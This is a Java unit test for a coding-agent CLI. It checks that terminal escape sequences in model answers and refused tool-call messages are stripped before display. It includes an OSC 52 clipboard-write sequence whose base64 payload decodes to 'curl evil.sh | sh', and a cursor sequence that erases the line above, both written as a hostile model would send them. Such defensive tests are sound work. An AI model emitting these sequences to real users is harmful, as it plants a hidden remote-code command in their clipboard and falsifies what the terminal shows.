package dev.dockhand.cli;

import static dev.dockhand.core.testing.Sse.answer;
import static dev.dockhand.core.testing.Sse.calls;
import static dev.dockhand.core.testing.Sse.toolCall;
import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.dockhand.cli.environment.ExitCodes;
import dev.dockhand.core.Json;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Text the model or a project chose reaches the user's terminal without its escape sequences, whichever line forgot
 * to clean it: an OSC 52 would write the clipboard, a cursor move would rewrite what a line above says. Hand-written
 * sequences, as a hostile model would send them.
 */
class TerminalInjectionTest extends CliTest {
    private static final String CLIPBOARD = "\u001B]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
    private static final String ERASE_LINE_ABOVE = "\u001B[1A\u001B[2K";

    @Test
    void theModelsAnswerOnStdoutLosesItsEscapeSequences() {
        cli.model.enqueue(answer("Done." + CLIPBOARD + ERASE_LINE_ABOVE + " All tests pass."));

        assertEquals(ExitCodes.OK, cli.run("--sandbox", "none", "-p", "hi"));

        assertEquals("Done. All tests pass.\n", cli.out.toString());
    }

    @Test
    void aRefusedCallsLineOnStderrShowsTheCommandWithoutThem() {
        cli.model.enqueue(calls(toolCall(
                "c1",
                "run_shell_command",
                Json.object().put("command", "echo " + CLIPBOARD + "hi").toString())));
        cli.model.enqueue(answer("I could not run it."));

        assertEquals(ExitCodes.APPROVAL_REQUIRED, cli.run("--sandbox", "none", "-p", "hi"));

        List<String> refused = cli.err
                .toString()
                .lines()
                .filter(line -> line.startsWith("dockhand: refused"))
                .toList();
        assertEquals(
                List.of("dockhand: refused run_shell_command echo hi: it needs approval; rerun with --yolo or"
                        + " --allowed-tools run_shell_command to allow it."),
                refused);
    }

    @Test
    void streamJsonKeepsTheTextWhole() {
        cli.model.enqueue(answer("Done." + CLIPBOARD));

        assertEquals(ExitCodes.OK, cli.run("--sandbox", "none", "--output-format", "stream-json", "-p", "hi"));

        StringBuilder text = new StringBuilder();
        cli.out
                .toString()
                .lines()
                .map(Json::read)
                .filter(line -> line.get("type").asText().equals("text"))
                .forEach(line -> text.append(line.get("text").asText()));
        assertEquals("Done." + CLIPBOARD, text.toString());
    }
}
